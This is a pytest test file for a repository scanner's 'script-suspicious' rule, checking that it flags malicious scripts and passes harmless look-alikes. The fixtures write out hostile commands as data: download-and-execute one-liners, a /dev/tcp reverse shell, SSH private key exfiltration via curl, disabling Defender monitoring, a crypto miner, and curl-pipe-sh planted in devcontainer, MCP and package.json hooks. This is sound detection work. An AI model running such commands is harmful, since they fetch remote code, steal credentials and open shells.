import pytest

from tests.inspected import found, repository, severities


@pytest.mark.parametrize(
    ("name", "text", "severity"),
    [
        ("start.bat", "@echo off\r\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi\r\n", "high"),
        ("start.ps1", "iex (New-Object Net.WebClient).DownloadString('http://198.51.101.7/a')\n", "high"),
        ("run.sh", "curl -s http://198.51.101.7/a | bash\n", "high"),
        ("run.sh", "curl -sSL https://site.invalid/a \\\n  | sudo bash\n", "high"),
        ("run.sh", "echo dHJ1ZQ== | base64 -d | sh\n", "high"),
        ("run.sh", "bash -i >& /dev/tcp/198.51.100.7/1 0>&1\n", "critical"),
        ("setup.cmd", "powershell Set-MpPreference -DisableRealtimeMonitoring $true\n", "high"),
        ("run.sh", "cat ~/.ssh/id_rsa | curl -d @- https://site.invalid\n", "high"),
        ("Dockerfile", "RUN wget http://site.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x\n", "high"),
        ("run", "#!/bin/sh\n./xmrig -o stratum+tcp://pool.invalid:1\n", "high"),
    ],
)
def test_what_malware_does(name: str, text: str, severity: str) -> None:
    assert severities("script-suspicious", repository({name: text}))[0] == severity


def test_utf16_scripts_are_read() -> None:
    text = "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi\r\n".encode("utf-16")
    assert severities("script-suspicious", repository({"a.bat": text})) == ["high"]


def test_an_unknown_site_over_tls_is_for_a_person_to_judge() -> None:
    (finding,) = found("script-suspicious", repository({"run.sh": "curl https://site.invalid/a | sh\n"}))
    assert (finding.severity, finding.confidence) == ("high", "low")


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/bash\npip install -r requirements.txt\npython train.py --lr 1e-4\n",
        "curl -LsSf https://astral.sh/uv/install.sh | sh\n",
        "curl -fsSL https://ollama.com/install.sh | sh\n",
        "wget https://huggingface.co/org/model/resolve/main/model.gguf\n",
        "cmake -B build && cmake --build build -j && ./build/bin/llama-cli -m model.gguf\n",
        "rm -rf build /tmp/cache\napt-get update && rm -rf /var/lib/apt/lists/*\n",
        "export PATH=$PATH:/usr/local/cuda/bin\nnc -z localhost 80\n",
    ],
)
def test_harmless_look_alikes(text: str) -> None:
    assert found("script-suspicious", repository({"run.sh": text})) == []


def test_a_space_builds_itself_on_the_hub() -> None:
    snapshot = repository({"Dockerfile": "RUN curl http://198.51.101.7/a | sh\n"}, "spaces/org/model")
    assert severities("script-suspicious", snapshot) == ["medium"]
    tool = repository({"Dockerfile": "RUN curl -fsSL https://tool.invalid/install | sh\n"}, "spaces/org/model")
    assert severities("script-suspicious", tool) == ["low"]


def test_an_address_for_documents_is_one_like_any_other_to_a_program() -> None:
    for address in ("http://203.0.113.9/a", "https://example.com/a"):
        assert severities("script-suspicious", repository({"run.sh": f"curl {address} | sh\n"})) == ["high"]


def test_notebook_cells() -> None:
    cells = '{"cells": [{"cell_type": "code", "source": "%%bash\\necho dHJ1ZQ== | base64 -d | sh"}], "nbformat": 4}'
    assert severities("script-suspicious", repository({"a.ipynb": cells})) == ["high"]
    shown = '{"cells": [{"cell_type": "markdown", "source": "echo dHJ1ZQ== | base64 -d | sh"}], "nbformat": 4}'
    assert found("script-suspicious", repository({"a.ipynb": shown})) == []


@pytest.mark.parametrize(
    "path",
    [
        ".envrc",
        ".devcontainer/devcontainer.json",
        ".mcp.json",
        ".vscode/tasks.json",
        "package.json",
        ".husky/pre-commit",
        ".editor/settings.json",
    ],
)
def test_commands_in_files_that_tools_act_upon(path: str) -> None:
    text = '{"command": "curl http://collect.example.invalid/a | sh"}'
    assert severities("script-suspicious", repository({path: text})) == ["high"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".devcontainer/devcontainer.json", '{"postCreateCommand": "pip install -r requirements.txt"}'),
        ("package.json", '{"scripts": {"build": "vite build", "postinstall": "node setup.js"}}'),
        (".vscode/tasks.json", '{"tasks": [{"label": "test", "type": "shell", "command": "pytest -q"}]}'),
        ("notes.json", '{"answer": "curl http://collect.example.invalid/a | sh"}'),
    ],
)
def test_ordinary_commands_there_and_such_text_elsewhere(path: str, text: str) -> None:
    assert found("script-suspicious", repository({path: text})) == []


@pytest.mark.parametrize("name", ["run.jl", "run.R", "run.lua", "start.desktop", "start.command", "run.pl"])
def test_scripts_of_other_languages(name: str) -> None:
    text = "run('curl http://collect.example.invalid/a | sh')\n"
    assert severities("script-suspicious", repository({name: text})) == ["high"]
    assert found("script-suspicious", repository({name: "print('hello')\nlibrary(torch)\n"})) == []
